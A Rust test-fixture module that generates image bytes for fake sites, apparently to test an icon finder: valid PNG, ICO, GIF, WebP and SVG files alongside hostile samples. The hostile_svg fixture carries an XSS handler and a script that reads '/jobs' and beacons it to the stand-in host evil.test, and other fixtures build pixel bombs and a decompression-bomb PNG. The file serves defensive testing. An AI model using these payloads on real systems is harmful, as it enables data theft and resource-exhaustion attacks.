//! The image bytes the fake sites serve: real PNG, ICO, GIF, WebP and SVG, and hostile ones.

/// A real, decodable RGBA PNG of `width`×`height` (stored deflate blocks, so no compressor
/// is needed).
pub fn png(width: u32, height: u32) -> Vec<u8> {
    // Each scanline: filter byte 0 (none), then RGBA pixels.
    let mut row = vec![0u8];
    for x in 0..width {
        row.extend_from_slice(&[(x * 7) as u8, 0x80, 0x40, 0xff]);
    }
    let raw = row.repeat(height as usize);
    // zlib stream of stored blocks.
    let mut z = vec![0x78, 0x01];
    let blocks: Vec<&[u8]> = raw.chunks(65_535).collect();
    for (i, block) in blocks.iter().enumerate() {
        z.push(u8::from(i + 1 == blocks.len()));
        let len = block.len() as u16;
        z.extend_from_slice(&len.to_le_bytes());
        z.extend_from_slice(&(!len).to_le_bytes());
        z.extend_from_slice(block);
    }
    z.extend_from_slice(&adler32(&raw).to_be_bytes());
    png_of(width, height, 6, &z)
}

/// An ICO file holding PNG entries of the given sizes (256 is written as width byte 0).
pub fn ico(sizes: &[u32]) -> Vec<u8> {
    let images: Vec<Vec<u8>> = sizes.iter().map(|s| png(*s, *s)).collect();
    let mut out = vec![0, 0, 1, 0];
    out.extend_from_slice(&(sizes.len() as u16).to_le_bytes());
    let mut offset = 6 + 16 * sizes.len() as u32;
    for (size, image) in sizes.iter().zip(&images) {
        let byte = if *size >= 256 { 0 } else { *size as u8 };
        out.extend_from_slice(&[byte, byte, 0, 0, 1, 0, 32, 0]);
        out.extend_from_slice(&(image.len() as u32).to_le_bytes());
        out.extend_from_slice(&offset.to_le_bytes());
        offset += image.len() as u32;
    }
    for image in images {
        out.extend_from_slice(&image);
    }
    out
}

/// A PNG whose header claims `width`×`height` but whose pixels are a single empty block: what
/// a pixel bomb looks like to a sniffer (valid chunks, absurd dimensions).
pub fn png_claiming(width: u32, height: u32) -> Vec<u8> {
    png_of(
        width,
        height,
        6,
        &[0x78, 0x01, 0x01, 0x00, 0x00, 0xff, 0xff, 0, 0, 0, 1],
    )
}

/// Appends one PNG chunk: length, kind, data, CRC.
fn chunk(out: &mut Vec<u8>, kind: &[u8; 4], data: &[u8]) {
    out.extend_from_slice(&(data.len() as u32).to_be_bytes());
    let mut crc_input = kind.to_vec();
    crc_input.extend_from_slice(data);
    out.extend_from_slice(&crc_input);
    out.extend_from_slice(&crc32(&crc_input).to_be_bytes());
}

/// A PNG file from its parts: the IHDR of `width`×`height` in 8-bit `colour_type`, one IDAT
/// chunk holding `idat` as it is, and IEND; every chunk with its CRC.
fn png_of(width: u32, height: u32, colour_type: u8, idat: &[u8]) -> Vec<u8> {
    let mut ihdr = Vec::new();
    ihdr.extend_from_slice(&width.to_be_bytes());
    ihdr.extend_from_slice(&height.to_be_bytes());
    ihdr.extend_from_slice(&[8, colour_type, 0, 0, 0]);
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    chunk(&mut out, b"IHDR", &ihdr);
    chunk(&mut out, b"IDAT", idat);
    chunk(&mut out, b"IEND", &[]);
    out
}

/// A GIF89a of `width`×`height` (header, a global colour table, one tiny image block).
pub fn gif(width: u16, height: u16) -> Vec<u8> {
    let mut out = b"GIF89a".to_vec();
    out.extend_from_slice(&width.to_le_bytes());
    out.extend_from_slice(&height.to_le_bytes());
    out.extend_from_slice(&[0x80, 0, 0, 0, 0, 0, 0xff, 0xff, 0xff]);
    out.extend_from_slice(b",\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;");
    out
}

/// A lossless WebP (VP8L) header of `width`×`height`.
pub fn webp(width: u32, height: u32) -> Vec<u8> {
    let bits = (width - 1) | ((height - 1) << 14);
    let mut vp8l = vec![0x2f];
    vp8l.extend_from_slice(&bits.to_le_bytes());
    vp8l.extend_from_slice(&[0; 11]);
    let mut out = b"RIFF".to_vec();
    out.extend_from_slice(&((4 + 8 + vp8l.len()) as u32).to_le_bytes());
    out.extend_from_slice(b"WEBPVP8L");
    out.extend_from_slice(&(vp8l.len() as u32).to_le_bytes());
    out.extend_from_slice(&vp8l);
    out
}

/// A small SVG icon.
pub fn svg() -> Vec<u8> {
    br#"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 64 64"><circle cx="32" cy="32" r="30"/></svg>"#.to_vec()
}

fn crc32(data: &[u8]) -> u32 {
    let mut crc = 0xffff_ffffu32;
    for &byte in data {
        crc ^= u32::from(byte);
        for _ in 0..8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ 0xedb8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

fn adler32(data: &[u8]) -> u32 {
    let (mut a, mut b) = (1u32, 0u32);
    for &byte in data {
        a = (a + u32::from(byte)) % 65_521;
        b = (b + a) % 65_521;
    }
    (b << 16) | a
}

/// An SVG icon with what a hostile site puts in one: a script, an event handler, and
/// references to other hosts (an image, a `<use>`, a stylesheet import, a `foreignObject`
/// iframe). Its declared size is ordinary, so the finder stores it.
pub fn hostile_svg() -> Vec<u8> {
    br#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64" viewBox="0 0 64 64" onload="alert(1)">
<script>fetch('/jobs').then(r => r.text()).then(t => navigator.sendBeacon('http://evil.test/leak', t))</script>
<style>@import url(http://evil.test/style.css);</style>
<image href="http://evil.test/pixel.png" xlink:href="http://evil.test/pixel.png" width="64" height="64"/>
<use href="http://evil.test/defs.svg#shape" xlink:href="http://evil.test/defs.svg#shape"/>
<foreignObject width="64" height="64"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://evil.test/frame"></iframe></foreignObject>
<circle cx="32" cy="32" r="30" fill="green"/>
</svg>"#
        .to_vec()
}

/// An SVG that declares an enormous canvas (a rasteriser that trusted it would allocate
/// terabytes).
pub fn huge_svg() -> Vec<u8> {
    br#"<svg xmlns="http://www.w3.org/2000/svg" width="100000000" height="100000000"><circle cx="50000000" cy="50000000" r="40000000"/></svg>"#.to_vec()
}

/// A decompression bomb: a real, valid 8000×8000 greyscale PNG of zeros, a few dozen KB
/// compressed and 64 MB decoded.
pub fn bomb_png() -> Vec<u8> {
    use std::io::Write;
    let (width, height) = (8000u32, 8000u32);
    let row = vec![0u8; 1 + width as usize];
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    for _ in 0..height {
        z.write_all(&row).unwrap();
    }
    let data = z.finish().unwrap();
    png_of(width, height, 0, &data)
}
